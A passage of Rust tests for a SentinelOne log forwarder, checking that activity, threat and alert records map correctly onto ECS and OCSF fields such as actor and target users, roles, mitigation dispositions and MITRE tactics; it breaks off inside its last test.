//! Records whose events once said something else than the record, each as a whole event of both schemas.

use s1_forwarder_mapping::Schema;
use s1_forwarder_record::{Stream, Timestamp};
use serde_json::{Value, json};

use super::support::{assert_fields, at, faults, map_to, mapper_to, read_event};

fn activity(number: u32, fields: Value, data: Value) -> Value {
    let mut record = json!({"activityType": number, "id": "1", "createdAt": "2026-01-01T00:00:00Z", "data": data});
    for (key, value) in fields.as_object().unwrap() {
        record[key] = value.clone();
    }
    record
}

fn threat(info: Value, others: Value) -> Value {
    let mut record = json!({"id": "1", "threatInfo": {"threatId": "1", "threatName": "x.exe", "classification": "Malware",
        "confidenceLevel": "malicious", "mitigationStatus": "mitigated", "identifiedAt": "2026-01-01T00:00:00Z",
        "createdAt": "2026-01-01T00:00:00Z", "updatedAt": "2026-01-01T00:00:01Z"}});
    for (key, value) in info.as_object().unwrap() {
        record["threatInfo"][key] = value.clone();
    }
    for (key, value) in others.as_object().unwrap() {
        record[key] = value.clone();
    }
    record
}

/// Checks the whole event of each schema, and in each what it must say.
#[track_caller]
fn check(name: &str, stream: Stream, record: &Value, ecs: &[(&str, Value)], ocsf: &[(&str, Value)]) {
    for (schema, prefix, expected) in [(Schema::Ecs, "", ecs), (Schema::Ocsf, "ocsf-", ocsf)] {
        let event = map_to(schema, stream, record);
        assert_eq!(faults(schema, &event), Vec::<String>::new(), "{name}: {event:#}");
        assert_fields(&event, expected);
        insta::assert_snapshot!(format!("{prefix}{name}"), format!("{event:#}"));
    }
}

#[test]
fn the_id_of_a_changed_user_is_no_actors() {
    let described =
        "<ManagementUser at 0x7f6e with id=1712986475444464777, email='admin@acme.example', user_scope='account'>";
    check(
        "user-added-by-another",
        Stream::Activities,
        &activity(
            23,
            json!({"userId": "1732588998690212150", "description": described,
                "primaryDescription": "The management user Admin A added user User B as Viewer."}),
            json!({"byUser": "Admin A", "username": "User B", "role": "Viewer"}),
        ),
        &[
            ("user.id", json!("1712986475444464777")),
            ("user.name", json!("Admin A")),
            ("user.email", json!("admin@acme.example")),
            ("user.target.id", json!("1732588998690212150")),
            ("user.target.roles", json!(["Viewer"])),
            ("event.severity", json!(21)),
        ],
        &[
            ("actor.user.uid", json!("1712986475444464777")),
            ("actor.user.name", json!("Admin A")),
            ("actor.user.email_addr", json!("admin@acme.example")),
            ("user.uid", json!("1732588998690212150")),
            ("user.name", json!("User B")),
        ],
    );
    // Without a description, nobody knows the actor's id.
    for number in [24, 25, 140, 141, 142, 146, 1024] {
        let record = activity(number, json!({"userId": "7"}), json!({"byUser": "Admin A", "username": "User B"}));
        assert_fields(
            &map_to(Schema::Ecs, Stream::Activities, &record),
            &[("user.id", Value::Null), ("user.name", json!("Admin A")), ("user.target.id", json!("7"))],
        );
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_fields(&event, &[("actor.user.uid", Value::Null), ("user.uid", json!("7"))]);
    }
    // A description of the changed user says nothing of the actor.
    let of_target = activity(
        23,
        json!({"userId": "7", "description": "<ManagementUser with id=7, email='b@acme.example'>"}),
        json!({"byUser": "Admin A", "username": "User B"}),
    );
    let event = map_to(Schema::Ecs, Stream::Activities, &of_target);
    assert_fields(&event, &[("user.id", Value::Null), ("user.email", Value::Null), ("user.target.id", json!("7"))]);
    // Where both are one, the id is that of both.
    let own = activity(67, json!({"userId": "7"}), json!({"byUser": "API", "username": "API", "newValue": true}));
    assert_fields(&map_to(Schema::Ecs, Stream::Activities, &own), &[("user.id", json!("7"))]);
    assert_fields(&map_to(Schema::Ocsf, Stream::Activities, &own), &[("actor.user.uid", json!("7"))]);
    // In other activities, `byUser` is the user with the id.
    let of_agent =
        activity(54, json!({"userId": "7", "agentId": "8"}), json!({"byUser": "Admin A", "computerName": "c"}));
    assert_fields(&map_to(Schema::Ecs, Stream::Activities, &of_agent), &[("user.id", json!("7"))]);
}

#[test]
fn what_is_no_user_has_no_users_id() {
    check(
        "role-created-by-user",
        Stream::Activities,
        &activity(107, json!({"userId": "900"}), json!({"byUser": "Admin A", "roleName": "R1"})),
        &[("user.id", json!("900")), ("user.name", json!("Admin A")), ("user.target", Value::Null)],
        &[("actor.user.uid", json!("900")), ("iam_role", json!({"name": "R1"}))],
    );
    for number in [42, 108, 109, 112, 113, 114] {
        let record = activity(number, json!({"userId": "900"}), json!({"byUser": "Admin A", "role": "Admin"}));
        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        assert_fields(&event, &[("user.id", json!("900")), ("user.target", Value::Null)]);
        let of_actor = if [108, 109].contains(&number) { Value::Null } else { json!(["Admin"]) };
        assert_fields(&event, &[("user.roles", of_actor)]);
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_fields(&event, &[("actor.user.uid", json!("900"))]);
    }
    // The token of another user.
    let record = activity(113, json!({"userId": "7"}), json!({"byUser": "Admin A", "username": "Dave"}));
    let event = map_to(Schema::Ecs, Stream::Activities, &record);
    assert_fields(&event, &[("user.id", Value::Null), ("user.target.id", json!("7"))]);
}

#[test]
fn an_entity_has_the_name_of_nothing_else() {
    check(
        "tag-renamed",
        Stream::Activities,
        &activity(
            3651,
            json!({"siteName": "Berlin"}),
            json!({"oldTagName": "a", "newTagName": "b", "tagId": "9", "ruleName": "r"}),
        ),
        &[("event.type", json!(["change"]))],
        &[("entity", json!({"type_id": 99, "type": "Tag", "name": "b", "uid": "9"}))],
    );
    let entity = |number, fields: Value, data: Value| {
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(number, fields, data));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        event
    };
    let event = entity(5256, json!({}), json!({"ruleName": "block smb", "tagName": "t"}));
    assert_fields(&event, &[("entity.type", json!("Tag")), ("entity.name", json!("t"))]);
    let event = entity(25, json!({"userId": "7", "siteName": "Berlin"}), json!({"byUser": "A", "fullName": "User B"}));
    assert_fields(&event, &[("user.name", json!("User B")), ("user.uid", json!("7")), ("entity", Value::Null)]);
    let event = entity(37, json!({"userId": "7"}), json!({"byUser": "A", "roleName": "Admin"}));
    assert_fields(&event, &[("user", json!({"uid": "7", "type_id": 2, "type": "Admin"})), ("entity", Value::Null)]);
    // What has no name of its own is of the account or the site.
    for (number, kind) in [(3610, "Password"), (7200, "Cloud account"), (69, "Policy"), (5220, "Rule")] {
        let event = entity(number, json!({"siteName": "Berlin"}), json!({}));
        let expected =
            [("entity.type", json!(kind)), ("entity.name", Value::Null), ("entity.org.name", json!("Berlin"))];
        assert_fields(&event, &expected);
    }
    // Without a place either, it is no entity, and that of an endpoint is the endpoint.
    assert_fields(&entity(3610, json!({}), json!({})), &[("class_uid", json!(0))]);
    let event = entity(5228, json!({"agentId": "8"}), json!({"computerName": "c"}));
    assert_fields(&event, &[("entity", json!({"type_id": 1, "type": "Device", "name": "c", "uid": "8"}))]);
}

#[test]
fn a_role_of_one_user_is_that_of_the_one_who_acted() {
    check(
        "own-second-factor",
        Stream::Activities,
        &activity(67, json!({"userId": "7"}), json!({"byUser": "bob", "username": "bob", "role": "Viewer"})),
        &[("user.id", json!("7"))],
        &[
            ("type_name", json!("User Management: Enable MFA Factors")),
            ("actor.user.type", json!("User")),
            ("user", json!({"uid": "7", "name": "bob", "type_id": 1, "type": "User"})),
        ],
    );
    for (role, kind) in [("Administrator", "Admin"), ("Site Admin", "Admin"), ("IR Team", "User")] {
        let record = activity(27, json!({"userId": "7"}), json!({"username": "bob", "role": role}));
        assert_fields(&map_to(Schema::Ocsf, Stream::Activities, &record), &[("actor.user.type", json!(kind))]);
        let record = activity(23, json!({"userId": "7"}), json!({"byUser": "A", "username": "bob", "role": role}));
        let severity = if kind == "Admin" { 47 } else { 21 };
        assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &[("event.severity", json!(severity))]);
    }
}

#[test]
fn what_the_table_says_of_a_type_is_in_the_event() {
    for number in [140, 141, 142] {
        let record = activity(number, json!({"userId": "7"}), json!({"byUser": "Admin A", "username": "api-user"}));
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_fields(&event, &[("user.type", json!("Service")), ("actor.user.type", json!("Unknown"))]);
    }
    check(
        "ticket-changed",
        Stream::Activities,
        &activity(2029, json!({"threatId": "5", "userId": "7"}), json!({"oldTicketId": "", "newTicketId": "INC-1"})),
        &[("event.action", json!("ticket-number-changed"))],
        &[("tickets", json!([{"uid": "INC-1"}]))],
    );
}

#[test]
fn the_one_asset_of_an_older_console_is_a_resource() {
    let asset = json!({"id": "9", "name": "c", "category": "Server", "osType": "WINDOWS"});
    check(
        "older-unified-alert",
        Stream::UnifiedAlerts,
        &json!({"id": "u", "createdAt": "2026-01-01T00:00:00Z", "updatedAt": "2026-01-01T00:00:00Z", "asset": asset}),
        &[("host.name", json!("c"))],
        &[("resources", json!([{"uid": "9", "name": "c"}]))],
    );
}

#[test]
fn counters_say_what_became_of_a_threat() {
    let reports = |action: &str, status: &str, counters: Value| json!({"action": action, "status": status, "actionsCounters": counters});
    let partial = reports("quarantine", "partial", json!({"success": 3, "failed": 2, "total": 5}));
    let killed = reports("kill", "success", json!({"success": 1, "failed": 0, "total": 1}));
    let failed = reports("quarantine", "success", json!({"success": 0, "failed": 1, "total": 1}));
    check(
        "partly-quarantined",
        Stream::Threats,
        &threat(json!({}), json!({"mitigationStatus": [partial]})),
        &[("event.outcome", json!("success"))],
        &[("disposition", json!("Partially Corrected")), ("action", json!("Denied"))],
    );
    for (list, disposition) in [
        (json!([killed, failed]), "Partially Corrected"),
        (json!([failed]), "Uncorrected"),
        (json!([killed]), "Blocked"),
    ] {
        let record = threat(json!({}), json!({"mitigationStatus": list}));
        assert_fields(&map_to(Schema::Ocsf, Stream::Threats, &record), &[("disposition", json!(disposition))]);
    }
}

/// Older consoles have neither `failedActions` nor counters.
#[test]
fn failed_reports_are_failed_actions() {
    let failed = |counters: Value| json!({"action": "kill", "status": "failed", "actionsCounters": counters});
    let counted = json!({"success": 0, "failed": 1, "total": 1});
    let killed = json!({"action": "kill", "status": "success", "actionsCounters": null});
    for (failed_actions, reports, outcome, disposition) in [
        (Value::Null, json!([failed(Value::Null)]), "failure", "Uncorrected"),
        (json!(false), json!([failed(Value::Null)]), "failure", "Uncorrected"),
        (Value::Null, json!([failed(counted)]), "failure", "Uncorrected"),
        (json!(true), json!([]), "failure", "Uncorrected"),
        (Value::Null, json!([killed]), "unknown", "Blocked"),
        (Value::Null, json!([]), "unknown", "Detected"),
    ] {
        let record = threat(
            json!({"mitigationStatus": "not_mitigated", "failedActions": failed_actions}),
            json!({"mitigationStatus": reports}),
        );
        assert_fields(&map_to(Schema::Ecs, Stream::Threats, &record), &[("event.outcome", json!(outcome))]);
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_fields(&event, &[("disposition", json!(disposition))]);
    }
}

#[test]
fn a_unified_alert_is_restored_or_quarantined_as_last_reported() {
    let alert = |actions: [&str; 2]| {
        let reports = actions.map(|action| json!({"mitigationActionType": action, "successCount": 1}));
        json!({"id": "u", "createdAt": "2026-01-01T00:00:00Z", "updatedAt": "2026-01-01T00:00:00Z", "result": "MITIGATED",
            "mitigationDetails": {"reports": reports}})
    };
    check(
        "unified-alert-quarantined-again",
        Stream::UnifiedAlerts,
        &alert(["UNQUARANTINE", "QUARANTINE"]),
        &[("event.outcome", json!("success"))],
        &[("disposition", json!("Quarantined")), ("action", json!("Denied"))],
    );
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &alert(["QUARANTINE", "UNQUARANTINE"]));
    assert_fields(&event, &[("disposition", json!("Restored")), ("action", json!("Allowed"))]);
}

#[test]
fn the_name_of_a_threat_is_no_process() {
    check(
        "fileless-threat-with-a-name",
        Stream::Threats,
        &threat(
            json!({"isFileless": true, "threatName": "Meterpreter", "originatorProcess": "powershell.exe"}),
            json!({}),
        ),
        &[("process.name", json!("powershell.exe")), ("process.parent", Value::Null)],
        &[("evidences", json!([{"data": {"process": "powershell.exe", "originator_process": "powershell.exe"}}]))],
    );
    let bash = json!({"isFileless": true, "threatName": "bash", "originatorProcess": "bash"});
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(bash, json!({})));
    assert_fields(&event, &[("process.name", json!("bash"))]);
}

#[test]
fn two_ids_are_two_users_of_one_name() {
    check(
        "namesake-added",
        Stream::Activities,
        &activity(
            23,
            json!({"userId": "2", "description": "<ManagementUser at 0x7f with id=1, email='admin@acme.example'>"}),
            json!({"byUser": "admin", "username": "admin@customer.example"}),
        ),
        &[("user.id", json!("1")), ("user.target.id", json!("2"))],
        &[("actor.user.uid", json!("1")), ("user.uid", json!("2"))],
    );
}

#[test]
fn a_user_whose_right_was_changed_is_the_managed_user() {
    check(
        "token-right-withdrawn",
        Stream::Activities,
        &activity(111, json!({"userId": "1716583470262263007"}), json!({"byUser": "Admin A", "username": "Dave"})),
        &[("user.id", Value::Null), ("user.target.id", json!("1716583470262263007"))],
        &[
            ("actor.user.uid", Value::Null),
            ("type_name", json!("User Management: Remove Privileges")),
            ("privileges", json!(["API token generation"])),
            ("user", json!({"type_id": 0, "type": "Unknown", "name": "Dave", "uid": "1716583470262263007"})),
            ("entity", Value::Null),
        ],
    );
}

#[test]
fn a_role_is_a_role_whoever_made_it() {
    for (number, activity_id) in [(107, 1), (108, 2), (109, 3)] {
        let record = activity(
            number,
            json!({"userId": "900", "primaryDescription": "The Management user user1 changed role R1"}),
            json!({"username": "user1", "roleName": "R1", "roleId": "12"}),
        );
        check(
            &format!("role-{number}"),
            Stream::Activities,
            &record,
            &[("user.id", json!("900")), ("user.name", json!("user1")), ("user.target", Value::Null)],
            &[
                ("class_uid", json!(3008)),
                ("activity_id", json!(activity_id)),
                ("iam_role", json!({"name": "R1", "uid": "12"})),
                ("entity", Value::Null),
                ("actor.user.name", json!("user1")),
            ],
        );
    }
}

#[test]
fn a_role_that_another_user_was_given_is_a_grant() {
    check(
        "role-granted",
        Stream::Activities,
        &activity(
            37,
            json!({"userId": "7", "primaryDescription": "The management user A added user B to role Admin in scope S"}),
            json!({"byUser": "A", "username": "B", "roleName": "Admin", "scopeLevelName": "Site"}),
        ),
        &[
            ("event.action", json!("user-role-added")),
            ("event.severity", json!(47)),
            ("user.target.roles", json!(["Admin"])),
        ],
        &[
            ("class_uid", json!(3007)),
            ("activity_name", json!("Assign Roles")),
            ("iam_roles", json!([{"name": "Admin"}])),
            ("privileges", Value::Null),
            ("user.name", json!("B")),
            ("severity_id", json!(3)),
        ],
    );
    check(
        "own-profile-changed",
        Stream::Activities,
        &activity(
            37,
            json!({"userId": "7"}),
            json!({"username": "B", "role": "Viewer", "recoveryEmail": "b@acme.example"}),
        ),
        &[("event.action", json!("user-modified-own-profile")), ("user.roles", json!(["Viewer"]))],
        &[
            ("type_name", json!("User Management: Update")),
            ("actor.user.type", json!("User")),
            ("user", json!({"uid": "7", "name": "B", "type_id": 1, "type": "User", "email_addr": "b@acme.example"})),
        ],
    );
    let added =
        |role: &str| activity(23, json!({"userId": "7"}), json!({"byUser": "A", "username": "B", "role": role}));
    for (role, severity) in [("Admin", 47), ("Viewer", 21)] {
        let event = map_to(Schema::Ecs, Stream::Activities, &added(role));
        assert_fields(&event, &[("event.severity", json!(severity))]);
    }
}

#[test]
fn the_counters_decide_and_not_the_clocks() {
    let report = |action: &str, counters: Value, ended: &str| json!({"action": action, "actionsCounters": counters, "mitigationEndedAt": ended, "status": "success"});
    let nothing = json!({"failed": 0, "notFound": 1, "pendingReboot": 0, "success": 0, "total": 1});
    let one = json!({"failed": 0, "notFound": 0, "pendingReboot": 0, "success": 1, "total": 1});
    check(
        "nothing-found-to-quarantine",
        Stream::Threats,
        &threat(json!({}), json!({"mitigationStatus": [report("quarantine", nothing, "2026-01-01T00:00:02Z")]})),
        &[("event.outcome", json!("success"))],
        &[("disposition", json!("Corrected")), ("remediation.desc", json!("quarantine: not found"))],
    );
    let reports =
        json!([report("quarantine", one, "2026-01-01T00:00:01Z"), report("kill", Value::Null, "2026-01-01T00:00:02Z")]);
    check(
        "quarantined-and-killed",
        Stream::Threats,
        &threat(json!({}), json!({"mitigationStatus": reports})),
        &[("event.outcome", json!("success"))],
        &[("disposition", json!("Quarantined")), ("remediation.desc", json!("quarantine: success; kill: success"))],
    );
    let details = json!({"reports": [
        {"mitigationActionType": "QUARANTINE", "successCount": 1}, {"mitigationActionType": "KILL", "successCount": 1}]});
    let unified = json!({"id": "u", "result": "MITIGATED", "mitigationDetails": details});
    assert_fields(&map_to(Schema::Ocsf, Stream::UnifiedAlerts, &unified), &[("disposition", json!("Quarantined"))]);
    let details = json!({"reports": [{"mitigationActionType": "QUARANTINE", "successCount": 0}]});
    let unified = json!({"id": "u", "result": "MITIGATED", "mitigationDetails": details});
    assert_fields(&map_to(Schema::Ocsf, Stream::UnifiedAlerts, &unified), &[("disposition", json!("Corrected"))]);
}

#[test]
fn an_incident_has_its_new_state() {
    let about = |number, data| activity(number, json!({"threatId": "5", "userId": "7"}), data);
    check(
        "incident-resolved",
        Stream::Activities,
        &about(2028, json!({"username": "u", "newIncidentStatus": "resolved", "oldIncidentStatus": "unresolved"})),
        &[("event.reason", json!("resolved"))],
        &[("activity_name", json!("Close")), ("status_id", json!(4)), ("status", json!("Resolved"))],
    );
    check(
        "false-positive",
        Stream::Activities,
        &about(2030, json!({"username": "u", "newAnalystVerdict": "false_positive"})),
        &[("event.reason", json!("false_positive"))],
        &[("activity_name", json!("Update")), ("verdict_id", json!(1)), ("status_id", Value::Null)],
    );
    for (number, key, value, path, expected) in [
        (2028, "newIncidentStatusTitle", "In progress", "status_id", 2),
        (2028, "newIncidentStatus", "unresolved", "status_id", 1),
        (6054, "newIncidentStatus", "resolved", "status_id", 4),
        (2030, "newAnalystVerdictTitle", "True positive", "verdict_id", 2),
        (6055, "newAnalystVerdict", "suspicious", "verdict_id", 4),
    ] {
        let record = about(number, json!({ key: value }));
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_fields(&event, &[(path, json!(expected))]);
        assert_eq!(at(&event, "activity_id") == 3, expected == 4 && path == "status_id", "{event:#}");
        assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &[("event.reason", json!(value))]);
    }
}

#[test]
fn tactics_in_the_place_of_techniques_are_tactics() {
    let techniques = json!([{"link": "https://attack.mitre.org/techniques/TA0009/", "name": "TA0009"},
        {"link": "https://attack.mitre.org/techniques/T1202/", "name": "T1202"}, {"link": "", "name": "T7"}]);
    let tactics = json!([{"name": "Defense Evasion", "source": "MITRE", "techniques": techniques}]);
    let indicators = json!([{"category": "Evasion", "description": "d", "ids": [427], "tactics": tactics}]);
    check(
        "tactic-as-technique",
        Stream::Threats,
        &threat(json!({}), json!({"indicators": indicators})),
        &[
            ("threat.tactic.id", json!(["TA0005", "TA0009"])),
            ("threat.tactic.name", json!(["Defense Evasion", "Collection"])),
            ("threat.technique.id", json!(["T1202"])),
            ("threat.technique.name", json!(["Indirect Command Execution"])),
        ],
        &[(
            "attacks",
            json!([
                {"tactic": {"name": "Collection", "uid": "TA0009"}},
                {"tactic": {"name": "Defense Evasion", "uid": "TA0005"}, "technique": {
                    "uid": "T1202", "name": "Indirect Command Execution",
                    "src_url": "https://attack.mitre.org/techniques/T1202/"}}
            ]),
        )],
    );
    let attacks = json!([{"tactic": {"name": "Evasion", "uid": "TA0005"}, "technique": {"name": "x", "uid": "TA0009"}},
        {"tactic": {"name": "Execution", "uid": "TA0002"}, "technique": {"name": "T1202", "uid": "T7"}}]);
    let unified = json!({"id": "u", "indicators": [{"attacks": attacks}]});
    assert_fields(
        &map_to(Schema::Ecs, Stream::UnifiedAlerts, &unified),
        &[
            ("threat.tactic.id", json!(["TA0005", "TA0009", "TA0002"])),
            ("threat.technique.name", json!(["Indirect Command Execution"])),
        ],
    );
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &unified);
    let attacks: Vec<_> = at(&event, "attacks")
        .as_array()
        .unwrap()
        .iter()
        .map(|attack| (at(attack, "tactic.uid").clone(), at(attack, "technique.uid").clone()))
        .collect();
    let expected = [("TA0009", Value::Null), ("TA0005", Value::Null), ("TA0002", json!("T1202"))]
        .map(|(tactic, technique)| (json!(tactic), technique));
    assert_eq!(attacks, expected);
}

#[test]
fn a_threat_without_a_file_is_a_process() {
    let info = json!({"threatName": "cmd.exe (interactive session)", "isFileless": true, "filePath": "", "fileSize": 0,
        "sha1": "", "fileVerificationType": "NotSigned", "mitigationStatus": "not_mitigated",
        "originatorProcess": "explorer.exe", "processUser": "ACME\\jane"});
    check(
        "fileless",
        Stream::Threats,
        &threat(info, json!({})),
        &[
            ("file", Value::Null),
            ("threat.indicator", json!({"confidence": "High"})),
            ("process.name", json!("cmd.exe")),
            ("process.parent.name", json!("explorer.exe")),
        ],
        &[
            (
                "malware",
                json!([{"name": "cmd.exe", "classification_ids": [99],
                "classifications": ["Malware"], "severity_id": 4, "severity": "High"}]),
            ),
            (
                "evidences",
                json!([{"user": {"name": "jane", "domain": "ACME", "type_id": 0, "type": "Unknown"},
                "data": {"process": "cmd.exe", "originator_process": "explorer.exe"}}]),
            ),
        ],
    );
    // A size of 0 was not measured.
    let unmeasured = threat(json!({"filePath": "/a/x.exe", "fileSize": 0}), json!({}));
    let event = map_to(Schema::Ecs, Stream::Threats, &unmeasured);
    assert_fields(&event, &[("file.size", Value::Null), ("sentinel_one.threat.threat_info.file_size", json!(0))]);
    let event = map_to(Schema::Ocsf, Stream::Threats, &unmeasured);
    assert_eq!(event.pointer("/evidences/0/file/size"), None);
}

#[test]
fn an_older_unified_alert_has_a_host() {
    let asset =
        json!({"id": "a1", "name": "web-1", "agentUuid": "ff81", "category": "Workstation", "osType": "WINDOWS"});
    let state = json!({"ipV4": "1.2.3.4", "osType": "WINDOWS", "lastLoggedInUser": "jane", "domain": "ACME"});
    for (name, detected) in [("unified-alert-with-one-asset", state.clone()), ("", json!({ "asset": state }))] {
        let alert = json!({"id": "u1", "name": "x", "detectedAt": "2026-01-01T00:00:00Z", "asset": asset,
            "detectionTime": {"asset": detected}});
        let ecs = [
            ("host.name", json!("web-1")),
            ("host.ip", json!(["1.2.3.4"])),
            ("host.os.family", json!("windows")),
            ("user.name", json!("jane")),
        ];
        let ocsf = [("device.hostname", json!("web-1")), ("device.ip", json!("1.2.3.4"))];
        if name.is_empty() {
            assert_fields(&map_to(Schema::Ecs, Stream::UnifiedAlerts, &alert), &ecs);
            assert_fields(&map_to(Schema::Ocsf, Stream::UnifiedAlerts, &alert), &ocsf);
        } else {
            check(name, Stream::UnifiedAlerts, &alert, &ecs, &ocsf);
        }
    }
}

#[test]
fn entities_have_their_ids() {
    check(
        "rule-failed",
        Stream::Activities,
        &activity(3604, json!({"userId": "7"}), json!({"username": "u", "ruleName": "r", "ruleId": "77"})),
        &[("rule", json!({"id": "77", "name": "r"}))],
        &[("entity", json!({"type_id": 99, "type": "Rule", "name": "r", "uid": "77"}))],
    );
    let of_account = json!({"accountId": "11", "siteId": "22"});
    let policy = |id: &str| json!({"policyName": "p", "policy": {"id": id}});
    let scope = |level: &str, name: &str| json!({"scopeLevel": level, "scopeName": name});
    for (number, data, kind, name, uid) in [
        (5040, scope("Account", "Acme"), "Organization", "Acme", "11"),
        (5021, scope("Site", "Berlin"), "Organization", "Berlin", "22"),
        (5040, scope("Global", "Global"), "Organization", "Global", ""),
        (69, policy("33"), "Policy", "p", "33"),
        (69, policy("22"), "Policy", "p", ""),
        (69, policy("11"), "Policy", "p", ""),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(number, of_account.clone(), data.clone()));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let uid = if uid.is_empty() { Value::Null } else { json!(uid) };
        assert_fields(&event, &[("entity.type", json!(kind)), ("entity.name", json!(name)), ("entity.uid", uid)]);
    }
}

/// The account that a site is deleted with is the scope of the activity.
#[test]
fn a_site_has_no_name_of_its_account() {
    let of_account = json!({"scopeLevel": "Account", "scopeName": "Acme", "accountName": "Acme"});
    for number in [5020, 5029] {
        for (fields, name, uid) in [
            (json!({"siteId": "22", "siteName": "Berlin"}), json!("Berlin"), json!("22")),
            (json!({}), Value::Null, Value::Null),
        ] {
            let record = activity(number, fields, of_account.clone());
            let event = map_to(Schema::Ocsf, Stream::Activities, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(
                &event,
                &[
                    ("class_uid", json!(3004)),
                    ("entity.type", json!("Organization")),
                    ("entity.name", name),
                    ("entity.uid", uid),
                    ("entity.org.name", json!("Acme")),
                ],
            );
        }
    }
}

#[test]
fn an_updated_agent_has_its_new_version() {
    let fields = json!({"agentId": "8", "agentUpdatedVersion": "24.1.5.277"});
    check(
        "agent-updated",
        Stream::Activities,
        &activity(43, fields, json!({"computerName": "c", "newVersion": "24.1.5.277"})),
        &[("event.action", json!("agent-updated"))],
        &[
            ("application.version", json!("24.1.5.277")),
            (
                "device.agent_list",
                json!([{"uid": "8", "name": "SentinelOne Agent", "vendor_name": "SentinelOne", "type_id": 1,
                "type": "Endpoint Detection and Response", "version": "24.1.5.277"}]),
            ),
        ],
    );
    // What was not installed is no version of the agent.
    let record = activity(44, json!({"agentId": "8"}), json!({"computerName": "c", "newAgentVersion": "24.1.5.277"}));
    let event = map_to(Schema::Ocsf, Stream::Activities, &record);
    assert_eq!(event.pointer("/device/agent_list/0/version"), None, "{event:#}");
}

#[test]
fn a_shell_without_an_address_has_no_known_initiator() {
    for (address, initiator) in [(json!("192.0.2.7"), "Source Endpoint"), (Value::Null, "Unknown")] {
        let data = json!({"computerName": "c", "ipAddress": address});
        let event =
            map_to(Schema::Ocsf, Stream::Activities, &activity(3203, json!({"agentId": "8", "userId": "7"}), data));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("src_endpoint.ip", address), ("initiator", json!(initiator))]);
    }
}

/// OCSF has no status for what was cancelled: that is the activity.
#[test]
fn a_scan_that_was_aborted_is_cancelled_and_has_failed() {
    let event = map_to(Schema::Ocsf, Stream::Activities, &activity(91, json!({"agentId": "8"}), json!({})));
    assert_fields(&event, &[("activity_name", json!("Cancelled")), ("status", json!("Failure"))]);
}

#[test]
fn a_failed_login_has_its_reason() {
    check(
        "login-without-a-site",
        Stream::Activities,
        &activity(
            133,
            json!({"userId": "900", "comments": "no active site"}),
            json!({"username": "u", "reason": null}),
        ),
        &[("event.reason", json!("no active site"))],
        &[("status_detail", json!("no active site")), ("unmapped", Value::Null)],
    );
}

#[test]
fn a_user_is_no_administrator_by_logging_in() {
    let event = |role| {
        let record = activity(27, json!({"userId": "7"}), json!({"username": "u", "role": role}));
        map_to(Schema::Ocsf, Stream::Activities, &record)
    };
    for (role, kind) in [("Viewer", "User"), ("Admin", "Admin"), ("IR Admin", "Admin"), ("", "Unknown")] {
        assert_fields(&event(role), &[("actor.user.type", json!(kind)), ("user.type", json!(kind))]);
    }
}

#[test]
fn the_cloud_adds_to_the_block_list_as_a_user_does() {
    let hash = "02699626f388ed830012e5b787640e71c56d42d8";
    check(
        "hash-blocked-by-the-cloud",
        Stream::Activities,
        &activity(2, json!({"hash": hash}), json!({"fileContentHash": hash})),
        &[
            ("event.category", json!(["configuration"])),
            ("event.type", json!(["creation"])),
            ("file.hash.sha1", json!(hash)),
            ("threat", Value::Null),
        ],
        &[("class_uid", json!(3004)), ("activity_name", json!("Create")), ("entity.name", json!(hash))],
    );
}

#[test]
fn a_role_without_a_changed_user_is_the_actors() {
    for number in [112, 113, 147] {
        let record = activity(number, json!({"userId": "7"}), json!({"username": "jane", "role": "Admin"}));
        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        assert_fields(&event, &[("user.roles", json!(["Admin"])), ("user.target", Value::Null)]);
    }
    let record = activity(112, json!({"userId": "7"}), json!({"username": "jane", "role": "Admin"}));
    check(
        "own-token",
        Stream::Activities,
        &record,
        &[("user.roles", json!(["Admin"]))],
        &[
            ("type_name", json!("User Management: Add Programmatic Credentials")),
            ("user", json!({"uid": "7", "name": "jane", "type_id": 2, "type": "Admin"})),
        ],
    );
}

#[test]
fn a_verdict_does_not_lower_the_severity_and_is_dated() {
    let info = json!({"alertId": "9", "createdAt": "2026-01-01T00:00:00Z", "updatedAt": "2026-06-01T00:00:00Z",
        "eventType": "PROCESSCREATION", "analystVerdict": "False positive"});
    let alert = json!({"alertInfo": info, "ruleInfo": {"name": "r", "severity": "Critical"},
        "agentRealtimeInfo": {"id": "11", "name": "cent7"},
        "sourceProcessInfo": {"name": "sendmail.postfix", "pid": "7", "uniqueId": "AB"},
        "targetProcessInfo": {"tgtProcName": "sh", "tgtProcPid": "8", "tgtProcUid": "CD"}});
    check(
        "alert-judged-later",
        Stream::Alerts,
        &alert,
        &[
            ("event.severity", json!(99)),
            ("@timestamp", json!("2026-06-01T00:00:00Z")),
            ("event.start", json!("2026-01-01T00:00:00Z")),
            ("message", json!("r on cent7: sh")),
            (
                "event.url",
                json!(
                    "https://console.example.com/incidents/unified-alerts?alertsTable.filters=externalId__FULLTEXT%3D9"
                ),
            ),
        ],
        &[
            ("severity_id", json!(5)),
            ("time", json!(1_780_272_000_000_i64)),
            ("is_alert", json!(false)),
            ("verdict_id", json!(1)),
            ("message", json!("r on cent7: sh")),
        ],
    );
    let event = map_to(Schema::Ocsf, Stream::Alerts, &alert);
    let processes: Vec<_> = [0, 1].map(|index| event["evidences"][index]["process"]["name"].clone()).into();
    assert_eq!(processes, [json!("sendmail.postfix"), json!("sh")]);
    for verdict in ["false_positive", "undefined"] {
        let threat = threat(json!({ "analystVerdict": verdict, "mitigationStatus": "marked_as_benign" }), json!({}));
